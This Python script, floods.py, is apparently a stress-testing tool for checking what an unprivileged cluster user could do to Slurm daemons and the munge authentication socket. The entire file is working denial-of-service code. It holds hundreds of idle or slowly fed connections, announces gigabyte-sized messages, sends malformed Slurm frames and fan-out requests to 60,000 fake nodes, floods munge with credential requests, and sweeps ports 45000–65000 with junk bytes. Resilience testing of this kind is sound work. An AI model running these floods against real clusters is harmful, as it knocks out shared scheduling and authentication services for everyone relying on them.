"""What a student may send to daemons: ``python3 floods.py WAY SECONDS [HOST:PORT ...]``.

Runs on the user node, or in an allocation; needs nothing but Python. Prints how often it got where
it wanted to, and how often not.
"""

import os
import select
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable

Address = tuple[str, int]
PROCESSES = 4
HELD = 225
"""Connections that each process holds: 900 together."""
MUNGE = "/run/munge/munge.socket.2"
HEADER = struct.pack("!HHHIHH", 42 << 8, 0, 2009, 64, 0, 0)  # REQUEST_JOB_INFO, says it
ZEROS = bytes(1 << 20)


def connected(target: Address | str) -> socket.socket:
    """A connection, to munge by a path."""
    if isinstance(target, str):
        made = socket.socket(socket.AF_UNIX)
        made.settimeout(3)
        made.connect(target)
        return made
    return socket.create_connection(target, 3)


def length_words(targets: list[Address | str], stop_at: float, seen: Counter[str]) -> None:
    """Announce most of a gigabyte, and send what is taken of it."""
    while time.monotonic() < stop_at:
        for target in targets:
            with connected(target) as each:
                each.sendall(struct.pack("!I", 900_000_000))
                seen["announced"] += 1
                while time.monotonic() < stop_at:
                    each.sendall(ZEROS)
                    seen["MiB taken"] += 1


def idle(targets: list[Address | str], stop_at: float, seen: Counter[str]) -> None:
    """Hold as many connections as are let in, with one byte said on each."""
    _held(targets, stop_at, seen, b"\0", 0.0)


def slow(targets: list[Address | str], stop_at: float, seen: Counter[str]) -> None:
    """Say a message of the right kind, a byte at a time."""
    _held(targets, stop_at, seen, struct.pack("!I", 4000) + HEADER + bytes(4000), 0.2)


def _held(
    targets: list[Address | str], stop_at: float, seen: Counter[str], words: bytes, pause: float
) -> None:
    held: list[tuple[socket.socket, int]] = []
    while time.monotonic() < stop_at:
        while len(held) < HELD and time.monotonic() < stop_at:
            try:
                each = connected(targets[len(held) % len(targets)])
                each.sendall(words[:1])
            except OSError:
                seen["refused"] += 1
                time.sleep(0.02)
                continue
            seen["held"] += 1
            held.append((each, 1))
        time.sleep(pause or 0.1)
        kept = []
        for each, said in held:
            try:
                if pause:
                    each.sendall(words[said : said + 1])
                if select.select([each], [], [], 0)[0]:
                    raise ConnectionResetError
                kept.append((each, said + 1))
            except OSError:
                seen["thrown out"] += 1
                each.close()
        held = kept


def frames(targets: list[Address | str], stop_at: float, seen: Counter[str]) -> None:
    """Many short messages that begin as they should, and then hold nothing that is true."""
    content = HEADER + os.urandom(200)
    message = struct.pack("!I", len(content)) + content
    _asked(targets, stop_at, seen, lambda _: message)


def forwarded(targets: list[Address | str], stop_at: float, seen: Counter[str]) -> None:
    """Messages to be passed on to more nodes than there are."""
    nodes = b"n[1-60000]\0"
    content = struct.pack("!HHHIH", 42 << 8, 0, 1008, 0, 60000)
    content += struct.pack("!I", len(nodes)) + nodes + struct.pack("!IH", 10000, 50) + bytes(64)
    message = struct.pack("!I", len(content)) + content
    _asked(targets, stop_at, seen, lambda _: message)


def credentials(targets: list[Address | str], stop_at: float, seen: Counter[str]) -> None:
    """Requests to munge for credentials, as fast as it goes."""
    body = struct.pack("!BBBBIIII", 1, 1, 1, 0, 0, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    request = struct.pack("!IBBBI", 0x606D4B, 4, 2, 0, len(body)) + body
    _asked(targets, stop_at, seen, lambda _: request)


def _asked(
    targets: list[Address | str],
    stop_at: float,
    seen: Counter[str],
    message: Callable[[Address | str], bytes],
) -> None:
    while time.monotonic() < stop_at:
        for target in targets:
            with connected(target) as each:
                each.sendall(message(target))
                seen["answered" if each.recv(1 << 16) else "thrown out"] += 1


def commands(targets: list[Address | str], stop_at: float, seen: Counter[str]) -> None:
    """Slurm's own command, one after the other; the only one here that says who it is."""
    while time.monotonic() < stop_at:
        status = os.waitstatus_to_exitcode(os.system("squeue >/dev/null 2>&1"))  # noqa: S605
        seen["answered" if status == 0 else "refused"] += 1


def ports(targets: list[Address | str], stop_at: float, seen: Counter[str]) -> None:
    """Every port where an srun may wait, in turn: some bytes, a length word, or nothing."""
    words = (b"", b"\0", struct.pack("!I", 900_000_000), struct.pack("!I", 4) + b"none")
    held: list[socket.socket] = []
    for port in (port for _ in range(1000) for port in range(45000, 65000)):
        if time.monotonic() > stop_at:
            return
        try:
            each = socket.create_connection((str(targets[0][0]), port), 1)
            each.sendall(words[port % len(words)])
        except OSError:
            seen["refused"] += 1
            continue
        seen["said"] += 1
        held = [*held[-400:], each]


def spin(targets: list[Address | str], stop_at: float, seen: Counter[str]) -> None:
    """Keep as many processors busy, and send nothing: what the load alone does to others."""
    while time.monotonic() < stop_at:
        seen["rounds"] += 1


WAYS = {
    way.__name__: way
    for way in (
        length_words, idle, slow, frames, forwarded, credentials, commands, ports, spin,
    )
}  # fmt: skip


def flood(way: str, seconds: float, targets: list[Address | str]) -> Counter[str]:
    """Do it in several threads; how often what happened."""
    stop_at, seen = time.monotonic() + seconds, Counter[str]()

    def again() -> None:
        while time.monotonic() < stop_at:
            try:
                WAYS[way](targets, stop_at, seen)
            except OSError as error:
                seen[type(error).__name__] += 1
                time.sleep(0.01)

    threads = [threading.Thread(target=again) for _ in range(PROCESSES)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return seen


def parse_target(word: str) -> Address | str:
    """``host:port``, or a socket's path."""
    host, colon, port = word.rpartition(":")
    return (host, int(port)) if colon else word


if __name__ == "__main__":
    done = flood(sys.argv[1], float(sys.argv[2]), [parse_target(word) for word in sys.argv[3:]])
    print(f"{sys.argv[1]}: {dict(done)}", flush=True)
